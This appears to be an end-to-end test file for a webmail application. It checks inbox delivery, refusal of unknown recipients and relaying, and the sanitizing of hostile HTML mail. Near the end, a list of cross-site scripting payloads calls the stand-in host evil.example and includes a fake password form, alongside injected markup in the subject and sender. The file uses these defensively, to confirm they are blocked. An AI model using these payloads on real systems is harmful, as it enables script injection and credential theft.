import nodemailer from 'nodemailer';
import { describe, expect, test } from 'vitest';
import { openDemo } from '#e2e/demo.ts';
import { bodyOf, newSubject, openMail, openMailbox, rowOf, unreadIn } from '#e2e/mailbox.ts';
import { JONAS, MARTA } from '#e2e/people.ts';

const { at, smtpPort } = openDemo();

/** Somebody else's mail server. */
const world = nodemailer.createTransport({ host: '127.0.0.1', port: smtpPort, ignoreTLS: true });
const from = 'Freya Lindgren <freya@nordlift.example>';

describe('mail from outside', () => {
  test('stands in the open inbox without a reload, and in the mailbox of nobody else', async () => {
    const subject = newSubject('Hoist offer');
    const [marta, jonas] = [await at(MARTA), await at(JONAS)];
    await openMailbox(marta, MARTA);
    await openMailbox(jonas, JONAS);
    const before = await unreadIn(marta);
    await world.sendMail({
      from,
      to: MARTA.email,
      subject,
      text: 'Two hoists, ready on Monday.',
      attachments: [{ filename: 'offer.txt', content: 'Two hoists' }],
    });
    await rowOf(marta, subject).waitFor();
    expect(await rowOf(marta, subject).innerText()).toContain('Freya Lindgren');
    await expect.poll(() => unreadIn(marta)).toBe(before + 1);
    await openMail(marta, subject);
    await marta.getByText('freya@nordlift.example', { exact: true }).waitFor();
    await marta.getByText('Two hoists, ready on Monday.').waitFor();
    await jonas.getByRole('button', { name: 'Refresh' }).click();
    await jonas.getByRole('region', { name: 'Emails in Inbox' }).and(jonas.locator('[aria-busy=false]')).waitFor();
    expect(await rowOf(jonas, subject).count()).toBe(0);
  });

  test.each([
    ['nobody here', 'nobody.here@corvane.example'],
    ['another domain, which would be relaying', 'someone@elsewhere.example'],
  ])('for %s is refused at the door', async (_, to) => {
    await expect(world.sendMail({ from, to, subject: 'Hello', text: 'Hello' })).rejects.toMatchObject({ responseCode: 550 });
  });

  test('that names one of us and one of nobody reaches the one', async () => {
    const subject = newSubject('To both');
    const { accepted, rejected } = await world.sendMail({ from, to: [MARTA.email, 'nobody.here@corvane.example'], subject, text: 'Hello' });
    expect([accepted, rejected]).toEqual([[MARTA.email], ['nobody.here@corvane.example']]);
    const page = await at(MARTA);
    await openMailbox(page, MARTA);
    await rowOf(page, subject).waitFor();
  });
});

/** Each would run a script, load something from elsewhere, or reach out of its frame, if anything let it. */
const HOSTILE = [
  '<script>top.hacked = 1; fetch("http://evil.example/script")</script>',
  '<img src="http://evil.example/pixel.gif" onerror="top.hacked = 1">',
  '<img src=x onerror="top.hacked = 1">',
  '<svg onload="top.hacked = 1"><script>top.hacked = 1</script></svg>',
  '<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/object"></object>',
  '<link rel="stylesheet" href="http://evil.example/style.css"><style>@import url("http://evil.example/import.css");</style>',
  '<div style="background: url(http://evil.example/background.png); position: fixed; inset: 0; z-index: 99999">cover</div>',
  '<form action="http://evil.example/form"><input name="password"><button>Sign in again</button></form>',
  '<base href="http://evil.example/"><meta http-equiv="refresh" content="0; url=http://evil.example/refresh">',
  '<a href="javascript:top.hacked = 1">Show the invoice</a>',
  '<video src="http://evil.example/video.mp4" autoplay></video><audio src="http://evil.example/audio.mp3" autoplay></audio>',
];

test('a hostile mail runs nothing, loads nothing and stays in its frame, in the page and in the overlay', async () => {
  const subject = newSubject('Invoice <img src=x onerror="top.hacked=1">');
  await world.sendMail({
    from: '"<b onmouseover=top.hacked=1>" <x@evil.example>',
    to: MARTA.email,
    subject,
    html: `<p>Dear customer,</p>${HOSTILE.join('\n')}<p>The end.</p>`,
  });
  const page = await at(MARTA);
  await openMailbox(page, MARTA);
  await openMail(page, subject);
  const body = bodyOf(page);
  await body.getByText('Dear customer,').waitFor();
  await body.getByText('The end.').waitFor();
  await page.getByText(/pictures? from (another server was|other servers were) not loaded/).waitFor();
  await body.getByText('Show the invoice').click();
  expect(await body.locator('script, iframe, object, form, input, svg, link, meta[http-equiv=refresh], base, video, audio').count()).toBe(
    0,
  );
  const frame = page.frames().find((one) => one !== page.mainFrame())!;
  expect(frame.url()).toBe('about:srcdoc');

  await page.goto(`/employee/dashboard?mail=${encodeURIComponent(new URL(page.url()).pathname.split('/mail/')[1]!)}`);
  await page.getByRole('dialog', { name: 'Email Center' }).getByRole('heading', { level: 2, name: subject }).waitFor();
  await body.getByText('The end.').waitFor();
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(page.context().pages()).toHaveLength(1);
  // That nothing was loaded from elsewhere is looked at after every test.
});
